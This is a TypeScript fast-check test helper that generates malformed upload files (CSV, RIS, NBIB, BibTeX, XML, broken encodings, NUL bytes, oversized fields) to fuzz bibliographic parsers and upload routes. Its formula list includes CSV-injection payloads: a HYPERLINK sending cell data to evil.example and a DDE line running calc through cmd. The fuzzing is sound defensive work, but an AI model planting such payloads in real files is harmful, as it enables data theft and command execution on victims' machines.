import fc from 'fast-check';

// Files no one would upload on purpose, for the property tests of the readers (unit) and of the upload routes (integration).

const TEXT_EXTENSIONS = ['csv', 'tsv', 'txt', 'ris', 'nbib', 'bib', 'xml'] as const;
const ALL_EXTENSIONS = [...TEXT_EXTENSIONS, 'xlsx', 'xls'] as const;

export const extension = fc.constantFrom(...ALL_EXTENSIONS);
export const textExtension = fc.constantFrom(...TEXT_EXTENSIONS);

/** Text made of the pieces each format is built from, in any order, so parsers meet their own syntax half-finished. */
function tokens(pieces: string[]): fc.Arbitrary<string> {
  return fc
    .array(
      fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(...pieces) },
        { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
      ),
      { maxLength: 120 },
    )
    .map((parts) => parts.join(''));
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
  '=1+2',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '\t=1',
];
const csvText = tokens([
  'title',
  'abstract',
  'year',
  ',',
  ';',
  '\t',
  '"',
  '""',
  '\n',
  '\r\n',
  '\r',
  'Aspirin',
  '\u0000',
  ' ',
  '\ufeff',
  ...FORMULAS,
]);
const risText = tokens([
  'TY  - JOUR\n',
  'TI  - ',
  'T1  - ',
  'AB  - ',
  'AU  - ',
  'PY  - ',
  'SP  - ',
  'EP  - ',
  'ER  - \n',
  'ER  -\n',
  '\n',
  '\r\n',
  '  ',
  'A title',
  '2019',
  '\u0000',
  ...FORMULAS,
]);
const nbibText = tokens([
  'PMID- 123\n',
  'TI  - ',
  'AB  - ',
  'FAU - ',
  'DP  - ',
  'LID - 10.1/x [doi]\n',
  '      ',
  '\n',
  '\n\n',
  'A title',
  '\u0000',
  ...FORMULAS,
]);
const bibText = tokens([
  '@article{',
  '@string{',
  '@comment{',
  '@preamble{',
  'key,',
  'title',
  'author',
  ' = ',
  '{',
  '}',
  '"',
  '#',
  ',',
  '\\"o',
  "\\'{e}",
  '{\\em ',
  '\\',
  ' and ',
  '\n',
  '%',
  '\u0000',
  ...FORMULAS,
]);
const xmlText = tokens([
  '<?xml version="1.0"?>',
  '<xml>',
  '</xml>',
  '<records>',
  '</records>',
  '<record>',
  '</record>',
  '<titles>',
  '</titles>',
  '<title>',
  '</title>',
  '<abstract>',
  '</abstract>',
  '<style face="italic">',
  '</style>',
  '<![CDATA[',
  ']]>',
  '<!--',
  '-->',
  '&amp;',
  '&#xD;',
  '&#0;',
  '&#xFFFFFF;',
  '&bogus;',
  '<!DOCTYPE x [<!ENTITY e "ee">]>',
  '&e;',
  '<',
  '>',
  '/',
  '"',
  "'",
  '=',
  'A title',
  '\u0000',
  ...FORMULAS,
]);
export const formatText = fc.oneof(csvText, risText, nbibText, bibText, xmlText);

/** Bytes that are not UTF-8: stray continuation bytes, truncated sequences, encoded surrogates, overlongs. */
const INVALID_UTF8 = [
  [0x80],
  [0xc3],
  [0xc3, 0x28],
  [0xe2, 0x82],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xc0, 0xaf],
  [0xff],
  [0xfe],
];

/** Text encoded as UTF-8, then invalid bytes spliced in at random places. */
export const invalidUtf8 = fc
  .tuple(formatText, fc.array(fc.tuple(fc.nat(), fc.constantFrom(...INVALID_UTF8)), { minLength: 1, maxLength: 6 }))
  .map(([text, splices]) => {
    const bytes = [...Buffer.from(text, 'utf8')];
    for (const [at, invalid] of splices) bytes.splice(bytes.length === 0 ? 0 : at % bytes.length, 0, ...invalid);
    return new Uint8Array(bytes);
  });

/** A byte-order mark that promises UTF-16, followed by whatever bytes, odd counts included. */
export const falseUtf16 = fc
  .tuple(fc.constantFrom([0xff, 0xfe], [0xfe, 0xff], [0xef, 0xbb, 0xbf]), fc.uint8Array({ maxLength: 400 }))
  .map(([bom, rest]) => new Uint8Array([...bom, ...rest]));

/** Format text with NUL bytes spliced in. */
export const withNuls = fc.tuple(formatText, fc.array(fc.nat(), { minLength: 1, maxLength: 5 })).map(([text, at]) => {
  const chars = [...text];
  for (const i of at) chars.splice(chars.length === 0 ? 0 : i % chars.length, 0, '\u0000');
  return chars.join('');
});

/** One field of 1 to 5 MB in a file of a text format, as (content, extension). */
export const hugeField = fc
  .tuple(fc.integer({ min: 1, max: 5 }), fc.constantFrom('a', '"', 'x,', '\u00e9'), textExtension)
  .map(([mb, char, ext]) => {
    const field = char.repeat(Math.floor((mb * 1024 * 1024) / Buffer.byteLength(char)));
    const wrapped = {
      csv: `title,abstract\n"${field}",b\n`,
      tsv: `title\tabstract\n${field}\tb\n`,
      txt: `title,abstract\n${field},b\n`,
      ris: `TY  - JOUR\nTI  - ${field}\nER  - \n`,
      nbib: `PMID- 1\nTI  - ${field}\n`,
      bib: `@article{k, title = {${field}}}`,
      xml: `<xml><records><record><titles><title>${field}</title></titles></record></records></xml>`,
    }[ext];
    return [wrapped, ext] as const;
  });
